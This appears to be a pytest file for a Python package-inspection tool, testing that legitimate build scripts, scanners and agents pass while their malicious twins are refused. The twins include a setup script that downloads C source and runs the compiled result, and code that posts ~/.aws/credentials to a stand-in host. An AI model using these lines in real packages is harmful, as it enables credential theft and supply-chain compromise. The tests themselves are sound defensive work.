"""The false alarms that the write-ups name, for Python: each installs without a question, and its evil twin does not.

Private registries that a person configured are told from strangers where requests are read, and tested there.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from gatekeeper.inspection import Inspector
from gatekeeper.model import Notice, Release
from gatekeeper.policy import Policy
from tests.support.judging import allows, explained, importing, installing, judged
from tests.support.packages import wheel

if TYPE_CHECKING:
    from pathlib import Path

SETUP = "\nfrom setuptools import setup\nsetup(name='acme-thing', packages=['acme_thing'])\n"

NATIVE = {
    "probes of numpy's kind": """
import os, shutil, subprocess, tempfile
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext
class Build(build_ext):
    def build_extensions(self):
        folder = tempfile.mkdtemp()
        probe = os.path.join(folder, 'probe.c')
        with open(probe, 'w') as out:
            out.write('int main(void) { return 0; }')
        for compiler in ('gcc', 'clang', 'cl'):
            if subprocess.call([compiler, '-c', probe, '-o', os.path.join(folder, 'probe.o')]) == 0:
                break
        shutil.rmtree(folder)
        build_ext.build_extensions(self)
setup(name='acme-thing', ext_modules=[Extension('acme._fast', ['acme/fast.c'])], cmdclass={'build_ext': Build})
""",
    "Fortran of scipy's kind": """
import subprocess
from setuptools import setup
subprocess.check_call(['gfortran', '-shared', '-fPIC', 'a.f', '-o', 'a.so'])
subprocess.check_call('link /DLL /OUT:a.dll a.obj', shell=True)
setup(name='acme-thing')
""",
    "OpenSSL's flags of cryptography's kind": """
import os, platform, subprocess, sys
from setuptools import setup
flags = subprocess.check_output(['pkg-config', '--cflags', 'openssl'], universal_newlines=True).split()
if platform.system() == 'Darwin':
    flags.append('-I' + subprocess.check_output(['brew', '--prefix', 'openssl']).decode().strip() + '/include')
if sys.platform == 'win32':
    flags += os.environ.get('INCLUDE', '').split(';')
rust = subprocess.run(['cargo', 'build', '--release'], check=True)
setup(name='acme-thing')
""",
    "CMake": """
import os, subprocess, sys
from setuptools import setup
os.makedirs('build', exist_ok=True)
subprocess.check_call(['cmake', '..', '-DPYTHON_EXECUTABLE=' + sys.executable], cwd='build')
subprocess.check_call(['cmake', '--build', '.', '--config', 'Release', '-j', str(os.cpu_count())], cwd='build')
setup(name='acme-thing')
""",
}


@pytest.mark.parametrize("what", NATIVE)
def test_c_extensions_that_run_compilers_raise_no_question(tmp_path: Path, what: str) -> None:
    verdict = installing(tmp_path, NATIVE[what])
    assert allows(verdict), explained(verdict)


def test_a_compiler_that_builds_what_was_fetched_is_another_matter(tmp_path: Path) -> None:
    code = "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve('http://files.example/a.c', 'a.c')\n"
    verdict = installing(tmp_path, code + "subprocess.call(['gcc', 'a.c'])\nsubprocess.call('./a.out')\n" + SETUP)
    assert not allows(verdict), explained(verdict)


def test_a_package_that_carries_its_native_binary_raises_no_question(tmp_path: Path) -> None:
    code = "import os, subprocess, sys\nHERE = os.path.dirname(__file__)\ndef main():\n"
    code += "    return subprocess.call([os.path.join(HERE, 'bin', 'acme'), *sys.argv[1:]])\n"
    files = {"acme_thing/__init__.py": code, "acme_thing/bin/acme": b"\x7fELF" + b"\0" * 64}
    verdict = judged(wheel("acme-thing", files=files, tag="py3-none-manylinux_2_17_x86_64"), tmp_path)
    assert allows(verdict), explained(verdict)


INTERNAL = {
    "a database": "import socket\nclass Connection:\n    def __init__(self, host='localhost', port=3306):\n"
    "        self.where = host, port\n    def connect(self):\n        return socket.create_connection(self.where)\n",
    "an artifact store": "import os, requests\nBASE = os.environ.get('ACME_STORE', 'http://store.internal:8081/')\n"
    "def fetch(name):\n    return requests.get(BASE + name).content\n",
    "a metrics agent": "import socket\nADDRESS = ('127.0.0.1', 8125)\ndef count(name):\n"
    "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(name.encode() + b':1|c', ADDRESS)\n",
}


@pytest.mark.parametrize("what", INTERNAL)
def test_internal_services_on_odd_ports_raise_no_question(tmp_path: Path, what: str) -> None:
    verdict = importing(tmp_path, INTERNAL[what])
    assert allows(verdict), explained(verdict)


def test_a_configured_private_index_raises_no_question() -> None:
    release = Release("pypi", "acme-thing", "1.0")
    assert allows(Inspector(Policy()).judge_notices(release, ()))
    refused = Inspector(Policy()).judge_notices(release, (Notice("foreign-host", "https://stranger.example/"),))
    assert not allows(refused), explained(refused)


BOT = """
import pathlib, re
PINNED = re.compile(r'uses: ([\\w-]+/[\\w-]+)@(\\S+)')
def update(folder, versions):
    for path in pathlib.Path(folder, '.github', 'workflows').glob('*.yml'):
        text = path.read_text()
        path.write_text(PINNED.sub(lambda found: f'uses: {found[1]}@{versions[found[1]]}', text))
def main():
    import sys
    update(sys.argv[1], {})
"""


def test_a_bot_that_updates_workflows_raises_no_question(tmp_path: Path) -> None:
    verdict = importing(tmp_path, BOT)
    assert allows(verdict), explained(verdict)
    unasked = "import pathlib\npathlib.Path('.github/workflows/a.yml').write_text('on: push')\n"
    assert not allows(importing(tmp_path, unasked))


AGENT = """
import os, platform, subprocess
def environment():
    return {'ci': os.environ.get('CI'), 'build': os.environ.get('BUILD_NUMBER'), 'system': platform.system()}
def run(steps, folder):
    for step in steps:
        subprocess.run(step, shell=True, cwd=folder, env={**os.environ, **environment()}, check=True)
def register(session, address):
    session.post(address, json={'name': platform.node(), 'system': platform.platform()})
"""


def test_an_agent_of_a_build_server_raises_no_question(tmp_path: Path) -> None:
    verdict = importing(tmp_path, AGENT)
    assert allows(verdict), explained(verdict)


SCANNER = """
import os, re
RULES = {'aws': re.compile(r'AKIA[0-9A-Z]{16}'), 'key': re.compile('-----BEGIN (?:RSA )?PRIVATE KEY-----')}
NAMES = ('.npmrc', '.pypirc', '.netrc', 'id_rsa', '.aws/credentials', '.env')
def scan(folder):
    for top, folders, names in os.walk(folder):
        for name in names:
            path = os.path.join(top, name)
            with open(path, errors='replace') as source:
                text = source.read()
            for rule, pattern in RULES.items():
                if name in NAMES or pattern.search(text):
                    yield path, rule
"""


def test_a_scanner_that_reads_files_raises_no_question(tmp_path: Path) -> None:
    verdict = importing(tmp_path, SCANNER)
    assert allows(verdict), explained(verdict)
    thief = SCANNER + "import requests\nhome = os.path.expanduser('~/.aws/credentials')\n"
    thief += "requests.post('https://drop.example/', data=open(home).read())\n"
    assert not allows(importing(tmp_path, thief))


UPDATES = {
    "pip": "import subprocess, sys\ndef self_update():\n"
    "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--upgrade', 'pip'])\n",
    "setuptools": "import os, subprocess, sys\ndef bootstrap(folder):\n"
    "    subprocess.check_call([sys.executable, 'setup.py', 'install'], cwd=folder)\n",
    "ensurepip": "import runpy, sys\ndef run_pip(words):\n    sys.argv[1:] = words\n    runpy.run_module('pip', run_name='__main__')\n",
}  # fmt: skip


@pytest.mark.parametrize("what", UPDATES)
def test_installers_that_update_themselves_raise_no_question(tmp_path: Path, what: str) -> None:
    verdict = importing(tmp_path, UPDATES[what])
    assert allows(verdict), explained(verdict)


def test_an_import_that_installs_something_is_a_question(tmp_path: Path) -> None:
    code = "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'something-else'])\n"
    assert not allows(importing(tmp_path, code))
